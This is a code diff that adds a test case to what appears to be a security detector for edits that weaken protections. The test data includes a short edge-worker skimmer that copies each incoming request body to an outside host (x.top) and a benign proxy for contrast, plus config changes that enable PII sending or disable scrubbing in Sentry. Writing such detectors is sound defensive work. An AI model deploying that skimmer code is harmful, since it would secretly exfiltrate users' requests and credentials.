@@ -81,6 +81,25 @@ describe('weakening', () => {
     expect(editWeakenLines(['write'], { file_path: 'src/g.js', content: argv })).toHaveLength(0);
     expect(editWeakenLines(['read', 'file'], { file_path: 'src/d.js', content: route })).toHaveLength(0);
   });
+
+  it('finds what callers send copied to a host without its answer used (a skimmer), not a proxy', () => {
+    const skim =
+      "export default { async fetch(req) { const b = await req.clone().text(); fetch('https://x.top/c', { method: 'POST', body: b }); return fetch(req); } };";
+    expect(
+      editWeakenLines(['workers', 'put', 'script'], { script_name: 'edge', content: skim }),
+    ).toHaveLength(1);
+    const proxy =
+      "export default { async fetch(req) { return fetch('https://origin.acme.com/x', { method: 'POST', body: req.body }); } };";
+    expect(
+      editWeakenLines(['workers', 'put', 'script'], { script_name: 'edge', content: proxy }),
+    ).toHaveLength(0);
+    expect(
+      weakening({ path: 'sentry.config.ts', old: 'sendDefaultPii: false,', neu: 'sendDefaultPii: true,' }),
+    ).toBeDefined();
+    expect(
+      weakening({ path: 'infra/sentry.tf', old: 'scrub_data = true', neu: 'scrub_data = false' }),
+    ).toBeDefined();
+  });
 });
 
 describe('writtenCode: migrations and source files', () => {
